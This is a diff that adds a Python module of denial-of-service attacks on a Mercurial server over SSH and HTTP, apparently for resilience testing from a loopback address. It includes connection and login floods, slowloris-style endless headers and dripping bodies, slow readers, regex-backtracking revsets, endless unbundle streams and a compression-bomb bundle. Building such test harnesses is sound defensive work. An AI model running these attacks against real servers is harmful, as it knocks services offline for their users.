@@ -1,0 +1,181 @@
+"""What an attacker does, one kind a function: each is called with a `Target` and runs until it is told to stop."""
+
+import http.client
+import os
+import socket
+import struct
+import subprocess
+import threading
+import urllib.parse
+import zlib
+
+# Another address than honest clients have.
+ATTACKER = "127.0.0.2"
+STEP_SECONDS = 0.2
+# Who was refused comes again.
+AGAIN_SECONDS = 1
+# Else the attacker takes the processor, not the server.
+PACE_SECONDS = 0.01
+
+
+class Target:
+    def __init__(self, order):
+        self.ssh_command = order["ssh"].split(" ")
+        user, _at, rest = order["base"].removeprefix("ssh://").partition("@")
+        host, _colon, port = rest.partition(":")
+        self.ssh_address, self.login = (host, int(port)), ["-p", port, "%s@%s" % (user, host)]
+        host, _colon, port = order["http"].removeprefix("http://").partition(":")
+        self.http_address = (host, int(port.rstrip("/")))
+        self.path, self.own, self.foreign = order["path"], order["own"], order["foreign"]
+        self.large = order["large"]
+        self.stopped = threading.Event()
+
+    def connect(self, address, small=False):
+        made = socket.socket()
+        if small:
+            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        made.settimeout(5)
+        made.bind((ATTACKER, 0))
+        made.connect(address)
+        return made
+
+    def many(self, number, work):
+        threads = [threading.Thread(target=self.again, args=(work,), daemon=True) for _number in range(number)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join()
+
+    def again(self, work):
+        """An attacker who was refused tries again."""
+        while not self.stopped.is_set():
+            try:
+                work()
+            except (OSError, http.client.HTTPException):
+                pass
+            self.stopped.wait(AGAIN_SECONDS)
+
+    def get(self, path):
+        connection = http.client.HTTPConnection(*self.http_address, timeout=30, source_address=(ATTACKER, 0))
+        connection.request("GET", path)
+        connection.getresponse().read()
+        connection.close()
+
+    def serve(self, path):
+        command = [*self.ssh_command, *self.login, "hg -R %s serve --stdio" % path]
+        return subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
+
+def silent_connections(target):
+    def work():
+        with target.connect(target.ssh_address) as connection:
+            connection.settimeout(STEP_SECONDS)
+            while not target.stopped.is_set() and read_or_wait(connection) != b"":
+                pass
+
+    target.many(300, work)
+
+
+def read_or_wait(connection):
+    try:
+        return connection.recv(65536)
+    except TimeoutError:
+        return None
+
+
+def idle_logins(target):
+    """One account only; each is an OpenSSH of its own."""
+    command = [*target.ssh_command, "-b", ATTACKER, "-N", *target.login]
+    running = [subprocess.Popen(command, stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL) for _number in range(60)]
+    target.stopped.wait()
+    for process in running:
+        process.kill()
+        process.wait()
+
+
+def slow_readers(target):
+    def work():
+        with target.connect(target.http_address, small=True) as connection:
+            connection.sendall(b"GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % target.large.encode())
+            while not target.stopped.wait(STEP_SECONDS):
+                if not connection.recv(int(65536 * STEP_SECONDS)):
+                    return
+
+    target.many(16, work)
+
+
+def backtracking(target):
+    revset = 'desc("re:(a|a)" ## "*$") or grep("(a|aa)" ## "+$")'
+    path = "/%s/json-log?%s" % (target.path, urllib.parse.urlencode({"rev": revset}))
+    target.many(8, lambda: target.get(path))
+
+
+def dripping_bodies(target):
+    def work():
+        with target.connect(target.http_address) as connection:
+            connection.sendall(b"POST /%s?cmd=batch HTTP/1.1\r\nHost: x\r\nX-HgArgs-Post: 1000000\r\n"
+                               b"Content-Type: application/mercurial-0.1\r\nContent-Length: 1000000\r\n\r\n"
+                               % target.path.encode())
+            while not target.stopped.wait(1):
+                connection.sendall(b"cmds")
+
+    target.many(16, work)
+
+
+def endless_headers(target):
+    def work():
+        with target.connect(target.http_address) as connection:
+            connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
+            while not target.stopped.wait(STEP_SECONDS):
+                connection.sendall(b"X-A: %s\r\n" % (b"a" * 4000))
+
+    target.many(200, work)
+
+
+def endless_payload(target):
+    """By somebody who may read that repository, and not write to it."""
+    def work():
+        session = target.serve(target.foreign)
+        heads = b"force".hex().encode()
+        chunk = b"65536\n" + os.urandom(65536)
+        try:
+            session.stdin.write(b"unbundle\nheads %d\n%s" % (len(heads), heads))
+            while not target.stopped.wait(PACE_SECONDS) and session.poll() is None:
+                session.stdin.write(chunk)
+        finally:
+            session.kill()
+            session.wait()
+
+    target.many(2, work)
+
+
+def bomb(target):
+    """A bundle of one megabyte whose first part is a gigabyte of zeros."""
+    pack = zlib.compressobj(9)
+    start = pack.compress(struct.pack(">l", 1 << 30)) + pack.flush(zlib.Z_FULL_FLUSH)
+    # What follows a full flush can be said again.
+    megabyte = pack.compress(bytes(1 << 20)) + pack.flush(zlib.Z_FULL_FLUSH)
+    payload = b"HG10GZ" + start + 1024 * megabyte
+
+    def work():
+        session = target.serve(target.own)
+        heads = b"force".hex().encode()
+        try:
+            session.stdin.write(b"unbundle\nheads %d\n%s%d\n%s0\n" % (len(heads), heads, len(payload), payload))
+            session.stdin.flush()
+            while not target.stopped.wait(STEP_SECONDS) and session.poll() is None:
+                pass
+        finally:
+            session.kill()
+            session.wait()
+
+    target.many(1, work)
+
+
+def heavy_work_as_light(target):
+    paths = ["/%s?cmd=heads&cmd=stream_out" % target.path, "/%s/%%61rchive/tip.zip" % target.path]
+    target.many(8, lambda: [target.get(path) for path in paths])
+
+
+ATTACKS = [silent_connections, idle_logins, slow_readers, backtracking, dripping_bodies, endless_headers,
+           endless_payload, bomb, heavy_work_as_light]
